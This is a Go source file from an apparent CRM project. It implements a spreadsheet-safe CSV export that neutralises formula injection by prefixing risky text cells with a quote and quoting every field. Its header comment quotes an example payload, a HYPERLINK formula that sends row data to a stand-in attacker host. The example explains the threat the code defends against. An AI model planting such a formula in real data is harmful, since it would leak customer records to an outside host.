package output

import (
	"bufio"
	"io"
	"strings"

	"github.com/crm-course/crm/internal/crm"
)

// CSV for spreadsheets (--csv-safe), after OWASP's advice on CSV injection:
// Excel and LibreOffice evaluate a cell that begins with =, +, - or @ as a
// formula (OWASP adds TAB and CR, which some importers strip first), so a
// customer named =HYPERLINK("http://evil.example/?"&A1,"click") exports a
// link that sends the row away. In safe CSV such a text cell is prefixed
// with a single quote, which spreadsheets show as text and drop when saving,
// and every field is quoted, so that a spreadsheet splitting on another
// separator (";" in many locales) cannot make a new cell begin inside one.
// Numbers, money, dates and counts are never prefixed: -12.50 stays a number,
// and so does a text cell that is a plain number (a code such as -5).
//
// The default CSV is unchanged: scripts read the data as stored.

// isTextCell reports whether v is text as far as a spreadsheet is concerned
// (the values that could carry a formula).
func isTextCell(v any) bool {
	switch x := v.(type) {
	case nil, int, int64, bool, crm.Money, crm.Date, Number, *int, *crm.Date:
		return false
	case *string:
		return x != nil
	}
	return true
}

// formulaTriggers are the first characters that make a spreadsheet read a
// cell as a formula.
const formulaTriggers = "=+-@\t\r"

// SpreadsheetSafe returns the text cell s as safe CSV writes it: with a
// leading ' when it begins with =, +, -, @, TAB or CR and is not a plain
// number.
func SpreadsheetSafe(s string) string {
	if s == "" || !strings.ContainsRune(formulaTriggers, rune(s[0])) || plainNumber(s) {
		return s
	}
	return "'" + s
}

// plainNumber reports whether s is [+-]digits[.digits] (or [+-].digits).
func plainNumber(s string) bool {
	if s != "" && (s[0] == '+' || s[0] == '-') {
		s = s[1:]
	}
	digits, dot := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !dot:
			dot = true
		default:
			return false
		}
	}
	return digits > 0
}

// writeSafeCSV writes r as CSV for spreadsheets: every field quoted (inner
// quotes doubled), text cells through SpreadsheetSafe. Lines end in LF like
// the default CSV.
func writeSafeCSV(w io.Writer, r *Result) error {
	bw := bufio.NewWriterSize(w, 64<<10)
	field := func(i int, s string) {
		if i > 0 {
			bw.WriteByte(',')
		}
		bw.WriteByte('"')
		if strings.IndexByte(s, '"') >= 0 {
			s = strings.ReplaceAll(s, `"`, `""`)
		}
		bw.WriteString(s)
		bw.WriteByte('"')
	}
	for i, c := range r.Columns {
		field(i, SpreadsheetSafe(c.Key))
	}
	bw.WriteByte('\n')
	err := r.each(func(row []any) error {
		for i := range r.Columns {
			var v any
			if i < len(row) {
				v = row[i]
			}
			s := cellText(v, "en", false)
			if isTextCell(v) {
				s = SpreadsheetSafe(s)
			}
			field(i, s)
		}
		return bw.WriteByte('\n')
	})
	if err != nil {
		return err
	}
	return bw.Flush()
}
